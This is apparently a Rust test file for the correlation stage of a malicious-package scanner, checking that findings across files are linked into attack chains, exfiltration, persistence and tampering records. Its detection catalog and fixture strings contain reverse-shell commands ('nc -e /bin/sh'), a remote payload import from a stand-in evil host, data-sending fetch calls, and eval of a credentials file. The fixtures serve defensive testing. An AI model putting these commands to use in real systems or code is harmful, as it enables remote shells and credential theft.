//! Correlation stage tests over in-memory snapshots.

use packguard_analysis::catalog::PatternCatalog;
use packguard_analysis::correlation::DependencyGraph;
use packguard_analysis::detector::Detector;
use packguard_analysis::findings::{CorrelationKind, FindingStore};
use packguard_analysis::scanner::{FileSet, SourceFile};
use packguard_analysis::semantics::Enhancer;
use packguard_analysis::Correlator;
use packguard_core::ScanConfig;

const CATALOG: &str = r#"
[categories.backdoor]
severity = "critical"

[categories.backdoor.patterns.reverse-shell]
pattern = 'nc\s+-e|reverse_shell'

[categories.exfiltration]
severity = "critical"

[categories.exfiltration.patterns.remote-url]
pattern = 'https?://[\w./-]+'

[categories.code_execution]
severity = "high"

[categories.code_execution.patterns.eval-call]
pattern = 'eval\s*\('
"#;

fn file(path: &str, content: &str) -> SourceFile {
    SourceFile {
        path: path.into(),
        content: content.into(),
    }
}

/// Run detection + enhancement + correlation over an in-memory file set.
fn analyze(files: Vec<SourceFile>) -> FindingStore {
    let (catalog, warnings) = PatternCatalog::load_from_str(CATALOG).unwrap();
    assert!(warnings.is_empty());
    let config = ScanConfig::default();

    let files = FileSet::from_files(files);
    let detected = Detector::new(&catalog, &config).detect_all(&files);
    let (enhanced, _) = Enhancer::new(&config).enhance_all(&files, detected);

    let graph = DependencyGraph::build(&files);
    let mut store = FindingStore::from_findings(enhanced);
    Correlator::new(&config).correlate(&mut store, &graph);
    store
}

#[test]
fn same_directory_payload_pair_forms_attack_chain() {
    let store = analyze(vec![
        file("drop/payload1.js", "const cmd = \"nc -e /bin/sh 10.0.0.1\";\n"),
        file("drop/payload2.js", "const cmd = \"nc -e /bin/sh 10.0.0.2\";\n"),
    ]);

    assert_eq!(store.len(), 2);
    for finding in store.snapshot() {
        assert!(
            finding
                .correlations
                .iter()
                .any(|r| r.kind == CorrelationKind::AttackChain),
            "finding in {} should carry an attack_chain record",
            finding.file
        );
    }
    let record = store.snapshot()[0]
        .correlations
        .iter()
        .find(|r| r.kind == CorrelationKind::AttackChain)
        .unwrap();
    assert_eq!(record.files, vec!["drop/payload1.js", "drop/payload2.js"]);
}

#[test]
fn unrelated_files_do_not_chain() {
    let store = analyze(vec![
        file("north/alpha.js", "const cmd = \"nc -e /bin/sh 10.0.0.1\";\n"),
        file("south/omega.js", "const cmd = \"nc -e /bin/sh 10.0.0.2\";\n"),
    ]);
    for finding in store.snapshot() {
        assert!(finding
            .correlations
            .iter()
            .all(|r| r.kind != CorrelationKind::AttackChain));
    }
}

#[test]
fn two_destinations_form_distributed_exfiltration() {
    let store = analyze(vec![
        file(
            "src/beacon.js",
            "fetch('https://collect-one.example.com/x');\n",
        ),
        file(
            "src/mirror.js",
            "fetch('https://collect-two.example.net/y');\n",
        ),
    ]);

    let record = store
        .snapshot()
        .iter()
        .flat_map(|f| f.correlations.iter())
        .find(|r| r.kind == CorrelationKind::DistributedExfiltration)
        .expect("distributed_exfiltration record");
    assert_eq!(record.files.len(), 2);
    assert!(record.details.contains("collect-one.example.com"));
    assert!(record.details.contains("collect-two.example.net"));
}

#[test]
fn single_destination_is_not_distributed() {
    let store = analyze(vec![
        file("src/beacon.js", "fetch('https://one.example.com/x');\n"),
        file("src/mirror.js", "fetch('https://one.example.com/y');\n"),
    ]);
    assert!(store
        .snapshot()
        .iter()
        .flat_map(|f| f.correlations.iter())
        .all(|r| r.kind != CorrelationKind::DistributedExfiltration));
}

#[test]
fn import_edge_builds_data_flow_chain() {
    let sender = "\
export function sendData(payload) {\n\
  return fetch('https://collect.example.com/' + payload);\n\
}\n";
    let handler = "\
import { sendData } from './sender';\n\
\n\
export function handle(req) {\n\
  sendData(eval(req.body.data));\n\
}\n";
    let store = analyze(vec![file("sender.js", sender), file("handler.js", handler)]);

    let in_handler: Vec<_> = store
        .snapshot()
        .iter()
        .filter(|f| f.file == "handler.js")
        .collect();
    assert!(!in_handler.is_empty());
    let finding = in_handler
        .iter()
        .find(|f| f.category == "code_execution")
        .expect("eval finding in handler.js");
    assert!(finding.involves_user_input);
    assert!(finding.has_external_data_flow);

    let record = finding
        .correlations
        .iter()
        .find(|r| r.kind == CorrelationKind::DataFlowChain)
        .expect("data_flow_chain record");
    assert_eq!(record.files, vec!["handler.js", "sender.js"]);
}

#[test]
fn persistence_across_files_is_flagged() {
    let store = analyze(vec![
        file(
            "scripts/init.js",
            "const cmd = \"nc -e /bin/sh 1.2.3.4\"; // written to rc.local at boot\n",
        ),
        file(
            "scripts/setup.js",
            "const hook = \"nc -e /bin/sh 1.2.3.4\"; // runs from postinstall\n",
        ),
    ]);

    let record = store
        .snapshot()
        .iter()
        .flat_map(|f| f.correlations.iter())
        .find(|r| r.kind == CorrelationKind::MultiFilePersistence)
        .expect("multi_file_persistence record");
    assert!(record.details.contains("scripts/init.js: startup"));
    assert!(record.details.contains("scripts/setup.js: installation"));
}

#[test]
fn suspicious_remote_import_is_flagged() {
    let store = analyze(vec![file(
        "loader.js",
        "import 'https://cdn.evil.example/payload.js';\neval(x);\n",
    )]);
    let finding = &store.snapshot()[0];
    assert!(finding
        .correlations
        .iter()
        .any(|r| r.kind == CorrelationKind::SuspiciousImport));
}

#[test]
fn config_referencing_evidence_is_flagged() {
    let store = analyze(vec![file(
        "src/patcher.js",
        "eval(read('../app/credentials.json'));\n",
    )]);
    let finding = &store.snapshot()[0];
    assert!(finding
        .correlations
        .iter()
        .any(|r| r.kind == CorrelationKind::ConfigInjection));
}

#[test]
fn findings_in_config_files_are_flagged_as_tampering() {
    let store = analyze(vec![file("build.config.js", "eval(payload);\n")]);
    let finding = &store.snapshot()[0];
    assert!(finding
        .correlations
        .iter()
        .any(|r| r.kind == CorrelationKind::ConfigTampering));
}

#[test]
fn correlation_is_idempotent() {
    let files = FileSet::from_files(vec![
        file("drop/payload1.js", "const cmd = \"nc -e /bin/sh 10.0.0.1\";\n"),
        file("drop/payload2.js", "const cmd = \"nc -e /bin/sh 10.0.0.2\";\n"),
        file("src/beacon.js", "fetch('https://a.example.com/x');\n"),
        file("src/mirror.js", "fetch('https://b.example.net/y');\n"),
    ]);
    let (catalog, _) = PatternCatalog::load_from_str(CATALOG).unwrap();
    let config = ScanConfig::default();
    let detected = Detector::new(&catalog, &config).detect_all(&files);
    let (enhanced, _) = Enhancer::new(&config).enhance_all(&files, detected);
    let graph = DependencyGraph::build(&files);

    let correlator = Correlator::new(&config);
    let first = correlator.detect(&enhanced, &graph);
    let second = correlator.detect(&enhanced, &graph);

    assert_eq!(
        serde_json::to_string(&first).unwrap(),
        serde_json::to_string(&second).unwrap()
    );
    assert!(!first.is_empty());
}
